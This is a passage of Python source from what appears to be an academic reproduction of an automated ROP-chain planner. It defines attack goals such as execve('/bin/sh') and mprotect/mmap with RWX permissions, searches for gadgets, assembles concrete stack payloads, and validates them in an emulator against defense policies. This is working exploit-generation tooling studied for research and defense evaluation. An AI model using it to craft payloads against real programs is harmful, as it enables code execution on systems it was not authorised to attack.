            report.timings.planning = goals_sp.wall

            with span("plan.assemble") as asm_sp:
                seen_chains = set()
                for resolved, plan in complete:
                    try:
                        payload = assemble_payload(plan, resolved, solver=self.solver)
                    except AssemblyError:
                        continue
                    # Count *distinct* chains: two linearizations of the
                    # same gadget set are one payload, not two.
                    key = (resolved.goal.name, frozenset(g.location for g in payload.chain))
                    if key in seen_chains:
                        continue
                    if self.validate:
                        if self.defense is not None:
                            from ..defenses.enforce import validate_payload_with_policy

                            run = validate_payload_with_policy(
                                self.image,
                                payload,
                                resolved,
                                self.defense,
                                targets=cfi_targets,
                            )
                            payload.validated = run.ok
                            payload.event = run.event
                            payload.leak_steps = run.leaks_used
                            if not run.ok:
                                if (
                                    run.outcome in ("cfi", "shadow_stack")
                                    or run.denied_syscalls
                                    or run.slide_applied
                                ):
                                    report.blocked_by_defense += 1
                                continue
                            report.leaks_used += run.leaks_used
                        elif not validate_payload(self.image, payload, resolved):
                            continue
                    seen_chains.add(key)
                    report.payloads.append(payload)
                    report.per_goal[resolved.goal.name] = (
                        report.per_goal.get(resolved.goal.name, 0) + 1
                    )
                for goal in goals:
                    report.per_goal.setdefault(goal.name, 0)
                asm_sp.add("payloads", len(report.payloads))
            report.timings.postprocessing = asm_sp.wall
            plan_root.add("payloads", len(report.payloads))
        return report


__all__ = [
    "AssemblyError",
    "AttackGoal",
    "AttackPayload",
    "CausalLink",
    "ChainKind",
    "ExtractionConfig",
    "GadgetLibrary",
    "GadgetPlanner",
    "MemCondition",
    "MemoryGoal",
    "OpenCondition",
    "PartialPlan",
    "PlannerConfig",
    "PlannerReport",
    "Pointer",
    "RegCondition",
    "ResolvedGoal",
    "SearchStats",
    "StageTimings",
    "Step",
    "assemble_payload",
    "chain_kind",
    "execve_goal",
    "find_bytes_in_image",
    "mmap_goal",
    "mprotect_goal",
    "resolve_goal",
    "search_plans",
    "standard_goals",
    "validate_payload",
]
