"""Condition regression: how a gadget can *provide* a needed condition.

The planner works backward from the goal (Sec. IV-D): it picks an open
condition — "register R must hold value V at this step's entry" or
"address A must hold value V in memory" — and asks, for each gadget,
whether executing that gadget can establish it.  The answer has three
ingredients:

* **bindings**: constraints over the gadget's *payload words* (its
  local ``stk<k>`` symbols), solved when the payload is assembled;
* **regressed conditions**: values that *other registers* must hold at
  the gadget's entry (e.g. ``mov rdi, rax`` provides ``rdi == V``
  but regresses the need to ``rax == V``);
* the gadget's own **pre-conditions** (its path constraints), which are
  discharged the same way.

Gadgets whose relevant expressions depend on wild memory or unknown
initial flags cannot provide conditions reliably and are rejected.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from ..isa.registers import Reg, reg_by_name
from ..solver.solver import Solver
from ..symex.expr import (
    BV,
    BVConst,
    Bool,
    bv_const,
    bv_eq,
    bv_sym,
    free_symbols,
    substitute,
)
from ..symex.state import is_controlled_symbol
from ..gadgets.record import GadgetRecord


@dataclass(frozen=True)
class RegCondition:
    """Register ``reg`` must hold ``value`` at the consumer's entry."""

    reg: Reg
    value: int

    def __str__(self) -> str:
        return f"{self.reg} == {self.value:#x}"


@dataclass(frozen=True)
class MemCondition:
    """The 64-bit word at ``addr`` must hold ``value`` before the goal."""

    addr: int
    value: int

    def __str__(self) -> str:
        return f"[{self.addr:#x}] == {self.value:#x}"


Condition = object  # RegCondition | MemCondition


@dataclass
class Provision:
    """The result of successfully regressing a condition through a gadget."""

    bindings: List[Bool] = field(default_factory=list)  # over local stk syms
    regressed: List[RegCondition] = field(default_factory=list)

    def merged_with(self, other: "Provision") -> "Provision":
        return Provision(
            bindings=self.bindings + other.bindings,
            regressed=self.regressed + other.regressed,
        )


def _classify_symbols(syms) -> Tuple[List[str], List[str], bool]:
    """Split free symbols into (controlled stack, initial registers, ok)."""
    stack: List[str] = []
    regs: List[str] = []
    for s in syms:
        if is_controlled_symbol(s):
            stack.append(s)
        elif s.endswith("0") and not s.startswith(("mem", "flag_", "stk")):
            regs.append(s)
        else:
            return [], [], False  # wild memory / flags / uncontrolled stack
    return stack, regs, True


def _reg_from_symbol(name: str) -> Reg:
    return reg_by_name(name[:-1])


def regress_equation(
    expr: BV,
    target: int,
    solver: Solver,
    *,
    max_regressed_regs: int = 2,
) -> Optional[Provision]:
    """Make ``expr == target`` achievable: bind payload words, regress regs.

    Returns None when the equation is unachievable or depends on
    uncontrollable inputs.
    """
    if isinstance(expr, BVConst):
        return Provision() if expr.value == target & ((1 << 64) - 1) else None
    syms = free_symbols(expr)
    stack_syms, reg_syms, ok = _classify_symbols(syms)
    if not ok or len(reg_syms) > max_regressed_regs:
        return None
    # Fast path: a single-variable invertible chain needs no solver.
    if len(syms) == 1:
        from ..symex.invert import solve_for

        inverted = solve_for(expr, target)
        if inverted is not None:
            name, value = inverted
            if stack_syms:
                return Provision(bindings=[bv_eq(bv_sym(name), bv_const(value))])
            if max_regressed_regs < 1:
                return None
            return Provision(regressed=[RegCondition(reg=_reg_from_symbol(name), value=value)])
    equation = bv_eq(expr, bv_const(target))
    if not reg_syms:
        # Purely payload-driven: record the binding if satisfiable.
        result = solver.check([equation])
        if not result.is_sat:
            return None
        return Provision(bindings=[equation])
    # Mixed: pick witness values for the registers from a model, then
    # keep the payload residual symbolic.
    result = solver.check([equation])
    if not result.is_sat:
        return None
    reg_subst: Dict[str, BV] = {}
    regressed: List[RegCondition] = []
    for name in sorted(reg_syms):
        value = result.model.get(name, 0)
        reg_subst[name] = bv_const(value)
        regressed.append(RegCondition(reg=_reg_from_symbol(name), value=value))
    residual = substitute(equation, reg_subst)
    bindings: List[Bool] = []
    from ..symex.expr import BoolConst

    if isinstance(residual, BoolConst):
        if not residual.value:
            return None
    else:
        bindings.append(residual)
    return Provision(bindings=bindings, regressed=regressed)


def discharge_preconditions(
    gadget: GadgetRecord,
    solver: Solver,
    *,
    max_regressed_regs: int = 2,
) -> Optional[Provision]:
    """Turn a gadget's path constraints into bindings + entry conditions."""
    if not gadget.pre_cond:
        return Provision()
    all_syms = set()
    for c in gadget.pre_cond:
        all_syms |= free_symbols(c)
    stack_syms, reg_syms, ok = _classify_symbols(all_syms)
    if not ok or len(reg_syms) > max_regressed_regs:
        return None
    result = solver.check(list(gadget.pre_cond))
    if not result.is_sat:
        return None
    if not reg_syms:
        return Provision(bindings=list(gadget.pre_cond))
    reg_subst = {}
    regressed = []
    for name in sorted(reg_syms):
        value = result.model.get(name, 0)
        reg_subst[name] = bv_const(value)
        regressed.append(RegCondition(reg=_reg_from_symbol(name), value=value))
    bindings = []
    from ..symex.expr import BoolConst

    for c in gadget.pre_cond:
        residual = substitute(c, reg_subst)
        if isinstance(residual, BoolConst):
            if not residual.value:
                return None
        else:
            bindings.append(residual)
    return Provision(bindings=bindings, regressed=regressed)


def provide_reg_condition(
    gadget: GadgetRecord,
    cond: RegCondition,
    solver: Solver,
    locator=None,
) -> Optional[Provision]:
    """Can executing ``gadget`` establish ``cond`` at its exit?

    ``locator`` (value → static address holding that 64-bit word, or
    None) enables the classic *data-reuse* technique: a gadget whose
    post-value is a memory load through a controllable pointer (e.g.
    ``mov rax, [rbp-16]; ... ret`` with rbp settable via ``pop rbp``)
    provides any value that exists somewhere in the binary image —
    point the pointer at the known bytes.
    """
    post = gadget.post_regs.get(cond.reg)
    if post is None:
        return None
    provision = regress_equation(post, cond.value, solver)
    if provision is None and locator is not None:
        provision = _provide_via_known_bytes(gadget, post, cond.value, solver, locator)
    if provision is None:
        return None
    pre = discharge_preconditions(gadget, solver)
    if pre is None:
        return None
    merged = provision.merged_with(pre)
    # A gadget cannot regress a condition onto a register it needs at
    # entry equal to something it also claims to provide differently.
    for rc in merged.regressed:
        if rc.reg == cond.reg and gadget.post_regs[cond.reg] == bv_const(cond.value):
            continue
    return merged


def _provide_via_known_bytes(
    gadget: GadgetRecord,
    post,
    target: int,
    solver: Solver,
    locator,
) -> Optional[Provision]:
    """Data-reuse: make a wild-load post-value equal ``target`` by
    steering the load address at known image bytes."""
    from ..symex.expr import BVSym

    if not isinstance(post, BVSym) or not post.name.startswith("mem"):
        return None
    read = next(
        (
            r
            for r in gadget.mem_reads
            if isinstance(r.value_sym, BVSym)
            and r.value_sym.name == post.name
            and r.width == 8
        ),
        None,
    )
    if read is None:
        return None
    address = locator(target)
    if address is None:
        return None
    return regress_equation(read.addr, address, solver)


def provide_mem_condition(
    gadget: GadgetRecord,
    cond: MemCondition,
    solver: Solver,
) -> Optional[Provision]:
    """Can this gadget write ``value`` to ``addr``? (write-what-where)."""
    for write in gadget.mem_writes:
        if write.stack_offset is not None or write.width != 8:
            continue
        addr_prov = regress_equation(write.addr, cond.addr, solver)
        if addr_prov is None:
            continue
        value_prov = regress_equation(write.value, cond.value, solver)
        if value_prov is None:
            continue
        pre = discharge_preconditions(gadget, solver)
        if pre is None:
            continue
        merged = addr_prov.merged_with(value_prov).merged_with(pre)
        # Conflicting regressed values for one register → impossible.
        values: Dict[Reg, int] = {}
        consistent = True
        for rc in merged.regressed:
            if values.setdefault(rc.reg, rc.value) != rc.value:
                consistent = False
                break
        if consistent:
            return merged
    return None


def target_provision(
    gadget: GadgetRecord,
    next_addr: int,
    solver: Solver,
) -> Optional[Provision]:
    """Constrain an indirect gadget's jump target to ``next_addr``."""
    return regress_equation(gadget.jump_target, next_addr, solver)
