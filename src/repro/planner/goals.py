"""Attack goals — the target states of Sec. II-B.

A goal describes the machine state that must hold when control reaches
a ``syscall`` instruction: a concrete value per argument register, where
a value may be a :class:`Pointer` — the paper's POINTER constraint type,
"a value working as a pointer to a readable or writable memory area"
holding specific bytes.

Pointer goals are resolved before planning: if the required bytes exist
anywhere in the binary image (e.g. ``"/bin/sh"`` in .rodata), that
address is used; otherwise the resolver requests memory-write
sub-goals targeting the image's writable scratch area, which the
planner discharges with write-memory gadgets.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple, Union

from ..binfmt.image import BinaryImage
from ..emulator.syscalls import Sys
from ..isa.registers import Reg


@dataclass(frozen=True)
class Pointer:
    """The POINTER constraint: the register must point at ``data``."""

    data: bytes

    def __repr__(self) -> str:
        return f"Pointer(to={self.data!r})"


GoalValue = Union[int, Pointer]


@dataclass(frozen=True)
class AttackGoal:
    """A named goal state: register values to hold at the syscall."""

    name: str
    syscall: Sys
    regs: Tuple[Tuple[Reg, GoalValue], ...]

    def reg_map(self) -> Dict[Reg, GoalValue]:
        return dict(self.regs)

    def __str__(self) -> str:
        args = ", ".join(f"{r}={v:#x}" if isinstance(v, int) else f"{r}={v}" for r, v in self.regs)
        return f"{self.name}({args})"


def execve_goal(path: bytes = b"/bin/sh") -> AttackGoal:
    """execve(path, 0, 0) — spawn a shell (the paper's Fig. 8 target)."""
    return AttackGoal(
        name="execve",
        syscall=Sys.EXECVE,
        regs=(
            (Reg.RAX, int(Sys.EXECVE)),
            (Reg.RDI, Pointer(path + b"\x00")),
            (Reg.RSI, 0),
            (Reg.RDX, 0),
        ),
    )


def mprotect_goal(addr: int, length: int = 0x1000, prot: int = 7) -> AttackGoal:
    """mprotect(addr, length, RWX) — make attacker memory executable."""
    return AttackGoal(
        name="mprotect",
        syscall=Sys.MPROTECT,
        regs=(
            (Reg.RAX, int(Sys.MPROTECT)),
            (Reg.RDI, addr),
            (Reg.RSI, length),
            (Reg.RDX, prot),
        ),
    )


def mmap_goal(length: int = 0x1000, prot: int = 7) -> AttackGoal:
    """mmap(0, length, RWX, ...) — map fresh executable memory."""
    return AttackGoal(
        name="mmap",
        syscall=Sys.MMAP,
        regs=(
            (Reg.RAX, int(Sys.MMAP)),
            (Reg.RDI, 0),
            (Reg.RSI, length),
            (Reg.RDX, prot),
        ),
    )


def standard_goals(image: BinaryImage) -> List[AttackGoal]:
    """The paper's three attack families, parameterized for an image.

    ``length = prot = 7`` for the W^X attacks is deliberate value
    reuse: the kernel rounds mprotect lengths up to a page anyway, and
    a goal whose ``rsi`` and ``rdx`` coincide stays satisfiable through
    libc-style ``syscall()`` wrapper gadgets whose argument shuffle
    leaves one register serving both — a standard trick when building
    real chains through wrapper entries.
    """
    data = image.data
    return [
        execve_goal(),
        mprotect_goal(addr=data.addr & ~0xFFF, length=7),
        mmap_goal(length=7),
    ]


# ---------------------------------------------------------------------------
# Pointer resolution
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class MemoryGoal:
    """Bytes that must be planted at a concrete writable address."""

    addr: int
    data: bytes

    def words(self) -> List[Tuple[int, int]]:
        """(address, 64-bit value) pairs, 8-byte aligned writes."""
        padded = self.data + b"\x00" * ((8 - len(self.data) % 8) % 8)
        return [
            (self.addr + i, int.from_bytes(padded[i : i + 8], "little"))
            for i in range(0, len(padded), 8)
        ]


@dataclass
class ResolvedGoal:
    """An AttackGoal with every Pointer turned into a concrete address."""

    goal: AttackGoal
    reg_values: Dict[Reg, int]
    memory_goals: List[MemoryGoal] = field(default_factory=list)


def find_bytes_in_image(image: BinaryImage, needle: bytes) -> Optional[int]:
    """Search every section for ``needle``; return its address or None."""
    for section in image.sections:
        index = section.data.find(needle)
        if index >= 0:
            return section.addr + index
    return None


def resolve_goal(image: BinaryImage, goal: AttackGoal) -> ResolvedGoal:
    """Resolve Pointer values to addresses, queuing writes if needed."""
    scratch = image.symbols.get("__scratch")
    resolved = ResolvedGoal(goal=goal, reg_values={})
    scratch_cursor = scratch
    for reg, value in goal.regs:
        if isinstance(value, int):
            resolved.reg_values[reg] = value
            continue
        existing = find_bytes_in_image(image, value.data)
        if existing is not None:
            resolved.reg_values[reg] = existing
            continue
        if scratch_cursor is None:
            raise ValueError("image has no scratch area for pointer goals")
        resolved.reg_values[reg] = scratch_cursor
        resolved.memory_goals.append(MemoryGoal(addr=scratch_cursor, data=value.data))
        scratch_cursor += (len(value.data) + 15) & ~7  # spacing between blobs
    return resolved
