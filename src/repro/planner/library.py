"""The gadget library — Sec. V: "Gadget-Planner represents the gadget
library as a dictionary keyed on the register name, i.e., indexing the
available gadgets by the registers they affect.  Selecting gadgets in
this way, instead of considering all gadgets in all states,
substantially reduces the branching factor of the search."
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from ..isa.registers import Reg
from ..symex.executor import EndKind
from ..symex.expr import BVConst, BVSym, free_symbols
from ..symex.state import is_controlled_symbol
from ..gadgets.record import GadgetRecord


class ChainKind(enum.Enum):
    """How a gadget can be wired into a chain."""

    RET = "ret"  # ret-terminated: successor address goes on the stack
    CONTROLLED_TARGET = "controlled"  # indirect, target solvable from payload
    CONNECTOR = "connector"  # indirect, target = one initial register
    GOAL = "goal"  # syscall-terminated: usable as the final step only
    UNUSABLE = "unusable"


def _target_symbols(gadget: GadgetRecord):
    return free_symbols(gadget.jump_target)


def chain_kind(gadget: GadgetRecord) -> ChainKind:
    """Classify how (whether) the gadget can participate in chains."""
    if gadget.stack_smashed:
        return ChainKind.UNUSABLE
    if gadget.end is EndKind.SYSCALL:
        return ChainKind.GOAL
    if gadget.end is EndKind.DEAD:
        return ChainKind.UNUSABLE
    syms = _target_symbols(gadget)
    if gadget.end is EndKind.RET:
        if all(is_controlled_symbol(s) for s in syms) and syms:
            return ChainKind.RET
        if isinstance(gadget.jump_target, BVConst):
            return ChainKind.UNUSABLE  # fixed target: not chainable
        return ChainKind.UNUSABLE
    # Indirect endings.
    if syms and all(is_controlled_symbol(s) for s in syms):
        return ChainKind.CONTROLLED_TARGET
    reg_syms = [s for s in syms if s.endswith("0") and not s.startswith(("mem", "stk", "flag_"))]
    if len(syms) == 1 and len(reg_syms) == 1:
        return ChainKind.CONNECTOR
    return ChainKind.UNUSABLE


def _provider_quality(gadget: GadgetRecord, reg: Reg) -> tuple:
    """Sort key: cheaper/cleaner providers first."""
    post = gadget.post_regs[reg]
    if isinstance(post, BVConst):
        shape = 0
    elif isinstance(post, BVSym) and is_controlled_symbol(post.name):
        shape = 0  # direct pop-style control: as good as a constant
    else:
        syms = free_symbols(post)
        shape = 1 if all(is_controlled_symbol(s) for s in syms) else 2
    return (
        shape,
        len(gadget.pre_cond),
        len(gadget.clob_regs),
        gadget.stack_delta if gadget.stack_delta is not None else 1 << 20,
        gadget.num_insns,
        gadget.location,
    )


@dataclass
class GadgetLibrary:
    """Indexed views over the deduplicated gadget pool."""

    by_reg: Dict[Reg, List[GadgetRecord]] = field(default_factory=dict)
    goal_gadgets: List[GadgetRecord] = field(default_factory=list)
    writers: List[GadgetRecord] = field(default_factory=list)
    connectors: List[GadgetRecord] = field(default_factory=list)
    chainable: List[GadgetRecord] = field(default_factory=list)
    kinds: Dict[int, ChainKind] = field(default_factory=dict)

    @classmethod
    def build(cls, records: List[GadgetRecord]) -> "GadgetLibrary":
        lib = cls()
        for gadget in records:
            kind = chain_kind(gadget)
            lib.kinds[gadget.gadget_id] = kind
            if kind is ChainKind.GOAL:
                lib.goal_gadgets.append(gadget)
                continue
            if kind is ChainKind.UNUSABLE:
                continue
            lib.chainable.append(gadget)
            if kind is ChainKind.CONNECTOR:
                lib.connectors.append(gadget)
            if gadget.has_side_memory_writes:
                lib.writers.append(gadget)
            for reg in gadget.clob_regs:
                if reg is Reg.RSP:
                    continue
                lib.by_reg.setdefault(reg, []).append(gadget)
        for reg, gadgets in lib.by_reg.items():
            gadgets.sort(key=lambda g: _provider_quality(g, reg))
        lib.goal_gadgets.sort(key=lambda g: (len(g.pre_cond), g.num_insns, g.location))
        lib.writers.sort(key=lambda g: (len(g.pre_cond), g.num_insns, g.location))
        return lib

    def kind_of(self, gadget: GadgetRecord) -> ChainKind:
        return self.kinds[gadget.gadget_id]

    def providers_for(self, reg: Reg, limit: Optional[int] = None) -> List[GadgetRecord]:
        gadgets = self.by_reg.get(reg, [])
        return gadgets[:limit] if limit else gadgets

    @property
    def size(self) -> int:
        return len(self.chainable) + len(self.goal_gadgets)
