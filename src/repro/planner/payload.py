"""Post-processing — stage 4: linearize a plan, assemble the stack
payload, and validate it by concrete execution.

Assembly renames every step's local payload symbols (``stk<k>``) to
global payload-offset symbols, substitutes the register values that the
plan's causal links guarantee at each step's entry, constrains every
step's jump target to the next step's address, and hands the whole
conjunction to the solver.  The model *is* the payload.

Validation is merciless: the payload is written to the victim's stack
in a fresh emulator, control is diverted to the first gadget (the
threat model's stack-write vulnerability), and the run must raise the
goal syscall with exactly the planned arguments.  Every payload count
reported by the benchmarks is a count of *validated* payloads.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass
from typing import Dict, List, Optional

from ..binfmt.image import BinaryImage
from ..emulator.cpu import Emulator
from ..emulator.memory import PERM_R, PERM_W
from ..emulator.syscalls import AttackTriggered, SyscallEvent
from ..isa.registers import ALL_REGS, Reg
from ..solver.solver import Solver
from ..symex.expr import BV, Bool, bv_const, bv_eq, bv_sym, free_symbols, substitute
from ..symex.state import stack_sym_offset
from ..gadgets.record import GadgetRecord
from .goals import ResolvedGoal
from .plan import PartialPlan

FILLER_WORD = 0x4141414141414141
#: A mapped scratch page junk registers point at, so that dead wild
#: loads in otherwise-sound gadgets do not fault during validation.
JUNK_REGION = 0x00700000


class AssemblyError(Exception):
    """The plan could not be turned into a concrete payload."""


@dataclass
class AttackPayload:
    """A concrete, ready-to-inject stack payload."""

    goal_name: str
    words: List[int]
    chain: List[GadgetRecord]  # execution order, goal gadget last
    entry_address: int  # first gadget (overwrites the return address)
    validated: bool = False
    event: Optional[SyscallEvent] = None
    #: Leak-oracle queries the delivery needs first (ASLR defenses; the
    #: planner sets this when validating under a policy with a budget).
    leak_steps: int = 0

    @property
    def length_bytes(self) -> int:
        return 8 * len(self.words)

    def to_bytes(self) -> bytes:
        return b"".join(struct.pack("<Q", w & ((1 << 64) - 1)) for w in self.words)

    def describe(self) -> str:
        """Fig. 8-style rendering of the chain and payload."""
        lines = [f"payload[{self.goal_name}] — {len(self.chain)} gadgets, {self.length_bytes} bytes"]
        if self.leak_steps:
            lines.append(f"  leak: {self.leak_steps} address-leak step(s) before injection")
        for i, gadget in enumerate(self.chain):
            marker = "goal" if i == len(self.chain) - 1 else f"g{i + 1}"
            lines.append(f"  {marker}: {gadget.location:#x}  " + "; ".join(str(x) for x in gadget.insns))
        lines.append("  stack: " + " ".join(f"{w:#x}" for w in self.words[:16]) + (" ..." if len(self.words) > 16 else ""))
        return "\n".join(lines)


def _rename_to_payload(expr, entry_cursor: int, prefix: str = "p"):
    """Rename local stk symbols to global payload-offset symbols."""
    mapping: Dict[str, BV] = {}
    for name in free_symbols(expr):
        offset = stack_sym_offset(name)
        if offset is None:
            continue
        mapping[name] = bv_sym(f"{prefix}{entry_cursor + offset}")
    return substitute(expr, mapping)


def assemble_payload(
    plan: PartialPlan,
    resolved: ResolvedGoal,
    solver: Optional[Solver] = None,
) -> AttackPayload:
    """Linearize and concretize a complete plan. Raises AssemblyError."""
    solver = solver or Solver()
    if not plan.is_complete:
        raise AssemblyError("plan has open conditions")
    order = plan.linearize()
    if order is None:
        raise AssemblyError("orderings admit no valid linearization")
    steps = [plan.steps[sid] for sid in order]
    established = plan.established_values()

    constraints: List[Bool] = []
    cursor = 8  # word 0 holds the first gadget's address
    cursors: List[int] = []
    max_offset = 8
    for index, step in enumerate(steps):
        gadget = step.gadget
        cursors.append(cursor)
        entry_values = established.get(step.sid, {})
        reg_subst = {f"{reg}0": bv_const(value) for reg, value in entry_values.items()}

        step_constraints = list(plan.bindings.get(step.sid, ()))
        if index + 1 < len(steps):
            next_addr = steps[index + 1].gadget.location
            step_constraints.append(bv_eq(gadget.jump_target, bv_const(next_addr)))
        for constraint in step_constraints:
            concretized = substitute(constraint, reg_subst)
            renamed = _rename_to_payload(concretized, cursor)
            leftover = {
                s for s in free_symbols(renamed) if not s.startswith("p") or not s[1:].lstrip("-").isdigit()
            }
            if leftover:
                raise AssemblyError(f"constraint depends on uncontrolled inputs: {leftover}")
            constraints.append(renamed)
        max_offset = max(max_offset, cursor + max(gadget.max_stack_offset, 0) + 8)
        if gadget.stack_delta is None:
            raise AssemblyError("gadget with unknown stack delta in chain")
        cursor += gadget.stack_delta
        max_offset = max(max_offset, cursor)

    result = solver.check(constraints)
    if not result.is_sat:
        raise AssemblyError("payload constraints unsatisfiable")

    words: Dict[int, int] = {0: steps[0].gadget.location}
    for name, value in result.model.items():
        if name.startswith("p"):
            try:
                offset = int(name[1:])
            except ValueError:
                continue
            if offset % 8 == 0 and offset >= 0:
                if offset in words and words[offset] != value:
                    raise AssemblyError(f"conflicting payload word at {offset}")
                words[offset] = value
    top = max(max(words) + 8, max_offset)
    if top > 0x1C000:
        # Beyond the validation harness's stack headroom.  (The threat
        # model allows any payload length; concrete delivery vectors
        # like netperf's 4 KiB argument impose their own caps.)
        raise AssemblyError(f"payload too large: {top} bytes")
    payload_words = [words.get(off, FILLER_WORD) for off in range(0, top, 8)]
    return AttackPayload(
        goal_name=resolved.goal.name,
        words=payload_words,
        chain=[s.gadget for s in steps],
        entry_address=steps[0].gadget.location,
    )


# ---------------------------------------------------------------------------
# Validation
# ---------------------------------------------------------------------------


def validate_payload(
    image: BinaryImage,
    payload: AttackPayload,
    resolved: ResolvedGoal,
    *,
    step_limit: int = 500_000,
) -> bool:
    """Execute the payload against the image; set ``payload.validated``.

    Self-modifying binaries decode themselves at startup, and the
    attack happens against the *running* process — so the decoder stub
    is executed first, exactly as it would have by the time any memory
    vulnerability fires.  (Gadgets extracted from statically-encoded
    regions therefore fail validation: they do not exist at runtime.)
    """
    emu = Emulator(image, stop_on_attack=True, step_limit=step_limit)
    emu.memory.map(JUNK_REGION, 0x2000, PERM_R | PERM_W)
    if "__sm_start" in image.symbols:
        resume = image.symbols.get("_start", image.entry)
        emu.cpu.rip = image.symbols["__sm_start"]
        try:
            while emu.cpu.rip != resume and emu.steps < step_limit:
                emu.step()
        except Exception:
            payload.validated = False
            return False
    for reg in ALL_REGS:
        if reg is not Reg.RSP:
            emu.cpu.set(reg, JUNK_REGION + 0x800)
    # Plant the payload where the smashed stack would put it: the word
    # at rsp is the overwritten return address.
    base = emu.cpu.get(Reg.RSP)
    try:
        emu.memory.write(base, payload.to_bytes())
    except Exception:
        payload.validated = False  # does not fit the stack headroom
        return False
    emu.cpu.set(Reg.RSP, base + 8)
    emu.cpu.rip = payload.entry_address

    try:
        while True:
            emu.step()
    except AttackTriggered as attack:
        event = attack.event
        payload.event = event
        payload.validated = _event_matches(event, resolved)
        return payload.validated
    except Exception:
        payload.validated = False
        return False


def _event_matches(event: SyscallEvent, resolved: ResolvedGoal) -> bool:
    if event.number != resolved.goal.syscall:
        return False
    arg_regs = (Reg.RDI, Reg.RSI, Reg.RDX)
    for i, reg in enumerate(arg_regs):
        expected = resolved.reg_values.get(reg)
        if expected is not None and i < len(event.args) and event.args[i] != expected:
            return False
    # For execve, additionally demand the planted path decodes correctly.
    for mg in resolved.memory_goals:
        if event.path is not None and resolved.reg_values.get(Reg.RDI) == mg.addr:
            if not mg.data.startswith(event.path):
                return False
    return True
