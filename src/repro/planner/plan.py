"""Partial plan representation — the paper's (α, β, γ, δ, ε) tuple.

* α — :attr:`PartialPlan.steps`: gadget instances selected so far;
* β — :attr:`PartialPlan.orderings`: pairs (before, after);
* γ — :attr:`PartialPlan.links`: causal links (provider, consumer, condition);
* δ — :attr:`PartialPlan.open_conds`: conditions not yet fulfilled;
* ε — threats are resolved eagerly on every mutation (promotion /
  demotion, Sec. IV-D "Unsafe Causal Link Elimination"); a plan that
  cannot resolve a threat is discarded by returning ``None``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, FrozenSet, List, Optional, Set, Tuple

from ..isa.registers import Reg
from ..symex.expr import Bool, expr_size
from ..gadgets.record import GadgetRecord
from .conditions import MemCondition, RegCondition

GOAL_STEP = 0  # the goal (syscall) step always has id 0


@dataclass(frozen=True)
class Step:
    sid: int
    gadget: GadgetRecord

    def clobbers(self, reg: Reg) -> bool:
        return reg in self.gadget.clob_regs

    def __str__(self) -> str:
        return f"s{self.sid}:{self.gadget}"


@dataclass(frozen=True)
class CausalLink:
    provider: int
    consumer: int
    condition: RegCondition

    def __str__(self) -> str:
        return f"s{self.provider} --[{self.condition}]--> s{self.consumer}"


@dataclass(frozen=True)
class OpenCondition:
    consumer: int
    condition: object  # RegCondition | MemCondition

    def __str__(self) -> str:
        return f"{self.condition} @ s{self.consumer}"


@dataclass
class PartialPlan:
    """One (possibly incomplete) attack plan."""

    steps: Dict[int, Step]
    orderings: FrozenSet[Tuple[int, int]]
    links: Tuple[CausalLink, ...]
    open_conds: Tuple[OpenCondition, ...]
    #: Per-step payload-word constraints (local stk syms of that step).
    bindings: Dict[int, Tuple[Bool, ...]]
    #: Step that must immediately precede the goal (indirect connector).
    immediate_pre_goal: Optional[int] = None
    _next_sid: int = 1

    # -- constructors -----------------------------------------------------

    @classmethod
    def initial(
        cls,
        goal_gadget: GadgetRecord,
        goal_conds: List[RegCondition],
        mem_conds: List[MemCondition],
        goal_bindings: List[Bool],
    ) -> "PartialPlan":
        goal_step = Step(sid=GOAL_STEP, gadget=goal_gadget)
        opens = tuple(OpenCondition(GOAL_STEP, c) for c in goal_conds) + tuple(
            OpenCondition(GOAL_STEP, c) for c in mem_conds
        )
        return cls(
            steps={GOAL_STEP: goal_step},
            orderings=frozenset(),
            links=(),
            open_conds=opens,
            bindings={GOAL_STEP: tuple(goal_bindings)},
        )

    def clone(self) -> "PartialPlan":
        return PartialPlan(
            steps=dict(self.steps),
            orderings=self.orderings,
            links=self.links,
            open_conds=self.open_conds,
            bindings=dict(self.bindings),
            immediate_pre_goal=self.immediate_pre_goal,
            _next_sid=self._next_sid,
        )

    # -- ordering machinery ------------------------------------------------

    def _reachable(self, orderings: FrozenSet[Tuple[int, int]], src: int, dst: int) -> bool:
        """Is dst reachable from src via ordering edges?"""
        if src == dst:
            return True
        adjacency: Dict[int, List[int]] = {}
        for a, b in orderings:
            adjacency.setdefault(a, []).append(b)
        stack = [src]
        seen = {src}
        while stack:
            node = stack.pop()
            for nxt in adjacency.get(node, ()):
                if nxt == dst:
                    return True
                if nxt not in seen:
                    seen.add(nxt)
                    stack.append(nxt)
        return False

    def can_order(self, before: int, after: int) -> bool:
        """Would adding before<after keep the orderings acyclic?"""
        return not self._reachable(self.orderings, after, before)

    def with_ordering(self, before: int, after: int) -> Optional["PartialPlan"]:
        if (before, after) in self.orderings:
            return self
        if not self.can_order(before, after):
            return None
        new = self.clone()
        new.orderings = self.orderings | {(before, after)}
        return new

    def possibly_between(self, step: int, before: int, after: int) -> bool:
        """Could ``step`` be linearized strictly between before and after?"""
        if step in (before, after):
            return False
        if self._reachable(self.orderings, step, before):
            return False  # step must come before `before`
        if self._reachable(self.orderings, after, step):
            return False  # step must come after `after`
        return True

    # -- threat resolution ----------------------------------------------------

    def resolve_threats(self) -> Optional["PartialPlan"]:
        """Order away every unsafe causal link (ε elimination).

        For each link p --[reg]--> c and each step s ∉ {p, c} that
        clobbers reg and could sit between them, force s<p (promotion)
        or c<s (demotion).  Deterministic preference: demotion first.
        Returns None when a threat cannot be resolved.
        """
        plan: Optional[PartialPlan] = self
        changed = True
        while changed and plan is not None:
            changed = False
            for link in plan.links:
                if not isinstance(link.condition, RegCondition):
                    continue
                reg = link.condition.reg
                for sid, step in plan.steps.items():
                    if sid in (link.provider, link.consumer):
                        continue
                    if not step.clobbers(reg):
                        continue
                    if not plan.possibly_between(sid, link.provider, link.consumer):
                        continue
                    demoted = plan.with_ordering(link.consumer, sid)
                    if demoted is not None:
                        plan = demoted
                        changed = True
                        break
                    promoted = plan.with_ordering(sid, link.provider)
                    if promoted is not None:
                        plan = promoted
                        changed = True
                        break
                    return None  # unresolvable threat → dead plan
                if changed:
                    break
        return plan

    # -- step addition ------------------------------------------------------------

    def add_provider_step(
        self,
